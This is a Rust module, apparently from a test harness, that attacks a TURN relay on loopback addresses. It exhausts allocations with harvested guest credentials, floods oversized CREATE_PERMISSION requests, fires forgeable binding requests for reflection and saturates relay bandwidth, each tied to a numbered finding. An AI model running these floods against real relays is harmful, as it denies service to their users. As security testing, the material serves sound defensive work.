//! What is done to the relay, all of it from one address.

use std::net::{Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};

use stun_types::prelude::MessageWriteExt;
use tokio::net::UdpSocket;
use turn_types::attribute::XorPeerAddress;
use turn_types::message::CREATE_PERMISSION;

use crate::attacks::GENTLER;
use crate::honest::address_of;
use crate::refusals::note;
use crate::turn::{self, TurnClient};

/// The attacker's household.
const HERE: u16 = 4_000;
/// Guests whose credentials it takes, and allocations that it asks for with each.
const GUESTS: usize = if cfg!(debug_assertions) { 6 } else { 30 };
const ALLOCATIONS: usize = 30;
const PERMISSION_CLIENTS: usize = 4;

/// Takes as many allocations as it can, and holds them until the end (finding 4).
pub(crate) async fn take_all(server: SocketAddr, relay: SocketAddr, until: Instant) -> usize {
    let mut held = Vec::new();
    for _ in 0..GUESTS {
        let credentials = turn::credentials(server, HERE).await;
        for _ in 0..ALLOCATIONS {
            let mut client = TurnClient::udp(relay, HERE, credentials.clone()).await;
            match client.allocate().await {
                Some(0) => held.push(client),
                Some(code) => note(&format!("TURN {code}")),
                None => note("TURN, not answered"),
            }
        }
    }
    tokio::time::sleep_until(until.into()).await;
    held.len()
}

/// Asks for permissions for as many peers as fit into a message, again and again
/// (finding 6).
pub(crate) async fn ask_for_permissions(server: SocketAddr, relay: SocketAddr, until: Instant) {
    let mut all = Vec::new();
    for _ in 0..PERMISSION_CLIENTS {
        let credentials = turn::credentials(server, HERE + 1).await;
        all.push(tokio::spawn(async move {
            while Instant::now() < until {
                let client = TurnClient::tcp(relay, HERE + 1, credentials.clone()).await;
                let Ok(mut client) = client else {
                    return;
                };
                if client.allocate().await != Some(0) {
                    note("TURN, no allocation");
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    continue;
                }
                let with_peers = |count: u32| {
                    client.request(CREATE_PERMISSION, |writer| {
                        let id = writer.transaction_id();
                        for number in 0..count {
                            let ip = Ipv4Addr::from_bits(0x7f01_0000 + number);
                            let peer = SocketAddr::from((ip, 1000));
                            writer
                                .add_attribute(&XorPeerAddress::new(peer, id))
                                .unwrap();
                        }
                    })
                };
                let (huge, large) = (with_peers(5_000), with_peers(300));
                while Instant::now() < until && client.send(&huge).await.is_ok() {
                    match client
                        .exchange(&large)
                        .await
                        .as_deref()
                        .and_then(turn::code)
                    {
                        Some(0) => {}
                        Some(code) => note(&format!("TURN {code}")),
                        None => break,
                    }
                    tokio::time::sleep(Duration::from_millis(5) * (GENTLER - 1)).await;
                }
            }
        }));
    }
    for one in all {
        one.await.unwrap();
    }
}

/// Requests that anybody can forge, two thousand a second (finding 13).
pub(crate) async fn reflect(relay: SocketAddr, until: Instant) {
    let socket = UdpSocket::bind(address_of(HERE + 2)).await.unwrap();
    socket.connect(relay).await.unwrap();
    let binding = turn::binding();
    let mut buffer = [0; 2048];
    let (mut sent, mut answered) = (0_u64, 0);
    while Instant::now() < until {
        for _ in 0..20 {
            sent += u64::from(socket.send(&binding).await.is_ok());
        }
        while socket.try_recv(&mut buffer).is_ok() {
            answered += 1;
        }
        tokio::time::sleep(Duration::from_millis(10) * GENTLER).await;
    }
    for _ in answered..sent {
        note("TURN, not answered");
    }
}

/// As much through the relay as it lets pass, to a peer that takes it.
pub(crate) async fn use_bandwidth(server: SocketAddr, relay: SocketAddr, until: Instant) {
    let sink = UdpSocket::bind("127.0.0.3:0").await.unwrap();
    let credentials = turn::credentials(server, HERE + 3).await;
    let mut client = TurnClient::udp(relay, HERE + 3, credentials).await;
    if client.allocate().await != Some(0) {
        return note("TURN, no allocation");
    }
    client.bind(sink.local_addr().unwrap()).await;
    let mut packet = vec![0x40, 0x00, 0x03, 0xe8];
    packet.resize(1_004, 0);
    while Instant::now() < until {
        for _ in 0..50 {
            let _ = client.send(&packet).await;
        }
        tokio::time::sleep(Duration::from_millis(10) * GENTLER).await;
    }
}
